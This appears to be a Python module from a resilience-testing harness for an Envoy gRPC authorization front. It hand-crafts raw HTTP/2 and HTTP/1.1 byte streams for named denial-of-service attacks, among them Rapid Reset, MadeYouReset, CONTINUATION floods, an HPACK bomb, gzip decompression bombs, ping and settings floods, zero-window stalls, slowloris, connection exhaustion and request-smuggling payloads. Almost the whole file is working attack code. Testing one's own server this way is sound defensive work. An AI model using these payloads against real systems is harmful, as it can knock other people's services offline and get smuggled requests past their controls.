"""What hostile peers send to the gRPC front: each attack is a number of connections and the bytes for each.

The bytes are made by hand, so that no library stands between a peer and what it wants to break.
"""

from __future__ import annotations

import gzip
import struct
from typing import TYPE_CHECKING, Final, NamedTuple

from hpack import Encoder

if TYPE_CHECKING:
    from collections.abc import Callable

CHECK: Final = "/envoy.service.auth.v3.Authorization/Check"
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END, ACK, WHOLE = 1, 1, 4
_OPEN: Final = 1 << 30  # bytes of a window that never closes


class Attack(NamedTuple):
    """An attack.

    Attributes:
        what: For the report.
        connections: How many, at once; above 1,000 they are opened one after the other and kept.
        data: What each of them sends.
        reads: Whether the peer reads what comes back.
        front: What is attacked: `grpc` (HTTP/2) or `http` (HTTP/1.1).
        pause: Seconds between two bytes; 0: all at once.
        again: How often it is done, on new connections.
        of_authz: Whether it means something to a sidecar alone.
    """

    what: str
    connections: int
    data: Callable[[], bytes]
    reads: bool = True
    front: str = "grpc"
    pause: float = 0.0
    again: int = 1
    of_authz: bool = False


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def opening(window: int = _OPEN) -> bytes:
    """Return the preface and SETTINGS with an initial window; nothing is acknowledged."""
    opened = frame(WINDOW, 0, 0, (_OPEN).to_bytes(4, "big"))
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) + opened


def fields(*more: tuple[str, str]) -> list[tuple[str, str]]:
    """Return the header fields of a call."""
    return [
        (":method", "POST"), (":scheme", "http"), (":path", CHECK), (":authority", "authz"),
        ("content-type", "application/grpc"), ("te", "trailers"), *more,
    ]  # fmt: skip


def block() -> bytes:
    """Return a header block that needs no table."""
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields())


def call(stream: int, head: bytes, message: bytes, compressed: int = 0) -> bytes:
    """Return a whole call."""
    body = struct.pack(">BI", compressed, len(message)) + message
    return frame(HEADERS, WHOLE, stream, head) + frame(DATA, END, stream, body)


def field(number: int, payload: bytes) -> bytes:
    """Return a field of a protobuf message, of bytes."""
    size, length = bytearray(), len(payload)
    while length > 127:
        size.append(length & 127 | 128)
        length >>= 7
    size.append(length)
    return bytes([number << 3 | 2]) + bytes(size) + payload


def request_of(client: str) -> bytes:
    """Return a CheckRequest: attributes.source.address.socket_address.address."""
    socket_address = field(2, client.encode())
    return field(1, field(1, field(1, field(1, socket_address))))


def _gzip_headers() -> bytes:
    """23 compressed requests of 1.1 kB, each with half a million empty entries of `header_map`."""
    entries = b"\x0a\x00" * 520_000
    message = gzip.compress(field(1, field(4, field(2, field(13, entries)))))
    head = block()
    return opening() + b"".join(call(2 * n + 1, head, message, 1) for n in range(23))


def _unread_answers() -> bytes:
    """Calls that are denied with a body of 60 kB, on windows that never close."""
    head, message = block(), request_of("203.0.113.9")
    return opening() + b"".join(call(2 * n + 1, head, message) for n in range(1000))


def _zero_windows() -> bytes:
    head, message = block(), request_of("203.0.113.9")
    return opening(0) + b"".join(call(2 * n + 1, head, message) for n in range(900))


def _table_churn() -> bytes:
    """8.4 MB of calls whose headers change the table each time; our SETTINGS are acknowledged, the table stays."""
    encoder = Encoder()
    parts = [opening() + frame(SETTINGS, ACK, 0)]
    size = stream = 0
    while size < 8_400_000:
        stream += 2
        head = encoder.encode([*fields(), *((f"x-{stream}-{n}", "v" * 20) for n in range(20))], huffman=True)
        parts.append(call(stream - 1, head, request_of("192.0.2.7")))
        size += len(parts[-1])
    return b"".join(parts)


def _empty_settings() -> bytes:
    """1.9 MB of SETTINGS beside a thousand answers that wait."""
    head, message = block(), request_of("192.0.2.7")
    calls = b"".join(call(2 * n + 1, head, message) for n in range(1000))
    change = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    return opening(0) + calls + change * 120_000


def _pings() -> bytes:
    return opening() + frame(PING, 0, 0, bytes(8)) * 480_000


def _smallest_calls() -> bytes:
    head, message = block(), request_of("192.0.2.7")
    return opening() + b"".join(call(2 * n + 1, head, message) for n in range(60_000))


def _small_bodies() -> bytes:
    """A body of one byte for each of a thousand calls, which never ends."""
    head = block()
    return opening() + b"".join(
        frame(HEADERS, WHOLE, 2 * n + 1, head) + frame(DATA, 0, 2 * n + 1, b"\0") for n in range(1000)
    )


def _rapid_reset() -> bytes:
    """CVE-2023-44487: each call is cancelled at once, so that it never counts against the limit of streams."""
    head = block()
    reset = (8).to_bytes(4, "big")
    return opening() + b"".join(
        frame(HEADERS, WHOLE, 2 * n + 1, head) + frame(RESET, 0, 2 * n + 1, reset) for n in range(60_000)
    )


def _made_you_reset() -> bytes:
    """CVE-2025-8671: each call is broken by a window update of 0, so that the server cancels it."""
    head = block()
    return opening() + b"".join(
        frame(HEADERS, WHOLE, 2 * n + 1, head) + frame(WINDOW, 0, 2 * n + 1, bytes(4)) for n in range(60_000)
    )


def _continuation() -> bytes:
    """CVE-2024-27316 and others: a header block that never ends."""
    part = b"\x00\x07x-never\x7f\x81\x7e" + b"v" * 16_000
    return opening() + frame(HEADERS, 0, 1, block()) + frame(CONTINUATION, 0, 1, part[:16_384]) * 600


def _hpack_bomb() -> bytes:
    """CVE-2016-6581: a field of 4 kB in the table, and 16,000 references to it in a block, of a byte each."""
    value = b"v" * 3_900
    field_ = b"\x40\x01x\x7f" + _length(len(value) - 127) + value
    head = b"".join(_literal(name.encode()) + _literal(value.encode())[1:] for name, value in fields())
    calls = [opening(), frame(HEADERS, WHOLE, 1, head + field_)]
    calls += [frame(HEADERS, WHOLE | END, 2 * n + 3, head + b"\xbe" * 16_000) for n in range(50)]
    return b"".join(calls)


def _literal(text: bytes) -> bytes:
    """Return a short name, behind the byte that says that it goes into no table."""
    return b"\0" + bytes([len(text)]) + text


def _length(rest: int) -> bytes:
    """Return an integer of HPACK behind its prefix."""
    encoded = bytearray()
    while rest > 127:
        encoded.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*encoded, rest])


def _request(*headers: str, target: str = "/v1/auth") -> bytes:
    return "\r\n".join([f"GET {target} HTTP/1.1", "Host: a", *headers, "", ""]).encode()


def _smuggling() -> bytes:
    """What two readers may read differently: two lengths, folded lines, bare line feeds, spaces before colons."""
    return _request("X-Forwarded-For: 192.0.2.7") + (
        b"POST /v1/auth HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
        b"POST /v1/auth HTTP/1.1\nHost: a\nContent-Length: 1\nContent-Length: 2\n\nAB"
        b"GET /v1/auth HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\nx: y\r\n z\r\n\r\n"
    )


# By name.
ATTACKS: Final = {
    "gzip": Attack("25 kB that unpack to 12 million headers", 1, _gzip_headers, of_authz=True),
    "unread": Attack("40 peers that never read answers of 60 kB", 40, _unread_answers, reads=False, of_authz=True),
    "zero-windows": Attack("200 peers with 900 answers of 60 kB behind a window of 0", 200, _zero_windows),
    "table-churn": Attack("8.4 MB of headers that change the table", 1, _table_churn),
    "settings": Attack("120,000 SETTINGS beside 1,000 answers that wait", 1, _empty_settings),
    "pings": Attack("8 MB of PING", 1, _pings),
    "calls": Attack("60,000 calls in one go", 1, _smallest_calls),
    "small-bodies": Attack("100,000 bodies of one byte", 100, _small_bodies),
    "rapid-reset": Attack("60,000 calls, each cancelled at once", 1, _rapid_reset),
    "made-you-reset": Attack("60,000 calls, each broken so that it is reset", 1, _made_you_reset),
    "continuation": Attack("10 MB of a header block that never ends", 1, _continuation),
    "hpack-bomb": Attack("50 blocks of 16 kB that stand for 62 MB each", 1, _hpack_bomb),
    "slowloris-h2": Attack("500 peers with a byte of HTTP/2 every 0.1 s", 500, opening, pause=0.1),
    "idle-h2": Attack("10,000 connections that do nothing", 10_000, opening),
    "slowloris": Attack("500 peers with a byte of a header every 0.1 s", 500, _request, front="http", pause=0.1),
    "idle": Attack("10,000 connections that do nothing", 10_000, lambda: b"", front="http"),
    "pipelined": Attack("200,000 requests in one go", 1, lambda: _request() * 200_000, front="http"),
    "pages": Attack("40 peers that never read pages of 60 kB", 40,
                    lambda: _request("X-Forwarded-For: 203.0.113.9", target="/v1/forward/shop") * 5_000,
                    reads=False, front="http", of_authz=True),
    "smuggling": Attack("2,000 connections with requests that can be read in two ways", 20, _smuggling, front="http",
                        again=100),
}  # fmt: skip
